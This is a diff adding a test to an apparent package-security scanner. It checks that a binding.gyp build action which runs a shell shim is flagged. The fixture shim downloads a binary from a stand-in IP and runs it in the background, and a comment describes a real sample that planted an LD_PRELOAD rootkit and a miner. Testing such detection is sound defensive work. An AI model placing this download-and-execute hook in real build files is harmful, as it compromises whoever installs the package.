@@ -144,6 +144,25 @@ def test_binding_gyp_implies_node_gyp_and_its_command_expansions_are_judged():
     assert bad and bad[0].file == "binding.gyp" and bad[0].line == 1
 
 
+def test_binding_gyp_build_actions_are_judged_with_the_scripts_they_run():
+    # (blind set 38: a procfs addon whose second target's action runs `sh scripts/compat.sh` at build: it compiles an
+    # LD_PRELOAD rootkit into /etc/ld.so.preload and downloads and starts a miner)
+    gyp = (b"{\n  'targets': [\n    {'target_name': 'x', 'sources': ['src/x.cc']},\n"
+           b"    {'target_name': 'x_compat', 'type': 'none', 'actions': [{'action_name': 'shim', 'inputs': [],\n"
+           b"      'outputs': ['<(PRODUCT_DIR)/s.stamp'], 'action': ['sh', 'scripts/compat.sh', '<(PRODUCT_DIR)/s.stamp']}]},\n"
+           b"  ],  # comments and trailing commas: a Python literal\n}\n")
+    shim = b"#!/bin/sh\ncurl -fsSL http://192.0.2.61/w/k -o /tmp/k && chmod +x /tmp/k && nohup /tmp/k >/dev/null 2>&1 &\n"
+    found = findings(artifact(None, {"binding.gyp": gyp, "scripts/compat.sh": shim}))
+    drop = next(f for f in found if f.rule == "install-script/download-execute")
+    assert drop.file == "scripts/compat.sh" and drop.severity is Severity.CRITICAL
+    ran = next(f for f in found if f.rule == "install-script/runs-file")
+    assert ran.file == "binding.gyp" and ran.line == 5
+    # A build action that generates a header runs nothing of the network's.
+    codegen = gyp.replace(b"'sh', 'scripts/compat.sh'", b"'python3', 'tools/js2c.py'")
+    assert not [f for f in findings(artifact(None, {"binding.gyp": codegen, "tools/js2c.py": b"print('x')\n"}))
+                if f.severity >= Severity.MEDIUM]
+
+
 def test_prepare_weighs_less_than_postinstall():
     cmd = "curl -o /tmp/x https://dl.example/x"
     post = findings(artifact({"postinstall": cmd}))[0]
